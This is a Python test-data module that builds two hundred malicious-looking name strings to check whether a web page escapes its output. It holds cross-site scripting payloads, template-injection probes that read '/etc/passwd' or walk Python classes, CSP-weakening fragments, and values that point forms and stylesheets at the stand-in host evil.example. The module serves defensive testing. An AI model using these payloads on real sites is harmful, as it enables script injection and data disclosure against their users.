"""Names that try to break a page: two hundred, each of a kind that has broken one somewhere."""

from __future__ import annotations

from itertools import islice, product

SCRIPTS = (
    "<script>alert(1)</script>", "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</title><h1>x", "</bdi></td></table><form action=//evil.example>", "<!--", "-->", "<![CDATA[", "]]>", "<?php ?>",
    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0>",
    "<iframe srcdoc='<script>1</script>'>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext></math>", "<template>", "<plaintext>", "<xmp>", "<noscript>", "<textarea>",
    "<select>", "<object>",
)  # fmt: skip
QUOTES = (
    '"',
    "'",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`",
    "\\",
    "&",
    "&lt;",
    "&#60;",
    "&#x3c;script",
)
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}",
    "{{ run.machine }}",
    "{% endif %}", "{%- for x in y %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ first | safe }}",
)  # fmt: skip
POLICY = (
    "; script-src *", "' unsafe-inline", "content=\"\"", "data:text/html,<script>1</script>", "'none'; img-src *",
    "https://evil.example/x.png", "//evil.example", "url(//evil.example)", "@import '//evil.example';", "sha256-x'",
)  # fmt: skip
CONTROLS = tuple(f"a{chr(code)}b" for code in (0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 31, 127, 133, 0x2028, 0x2029, 0xFEFF))
DIRECTIONS = tuple(
    f"a{chr(code)}b<c>" for code in (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2066, 0x206A))
)
SCRIPTS_OF_THE_WORLD = (
    "größe",
    "数据集",
    "данные",
    "データ",
    "بيانات",
    "נתונים",
    "डेटा",
    "ข้อมูล",
    "데이터",
    "𝔘𝔫𝔦",
    "👩‍🔬",
    "e\u0301" * 40,
)
LONG = ("x" * 5000, "<b>" * 2000, "a b " * 2000, "ß" * 3000, "&" * 4000)


def strings() -> list[str]:
    """Two hundred different ones."""
    plain = [*SCRIPTS, *QUOTES, *TEMPLATES, *POLICY, *CONTROLS, *DIRECTIONS, *SCRIPTS_OF_THE_WORLD, *LONG]
    mixed = (f"{one}{two}" for one, two in product(QUOTES + DIRECTIONS[:3], SCRIPTS + TEMPLATES))
    every = dict.fromkeys([*plain, *islice(mixed, 400)])
    return list(every)[:200]
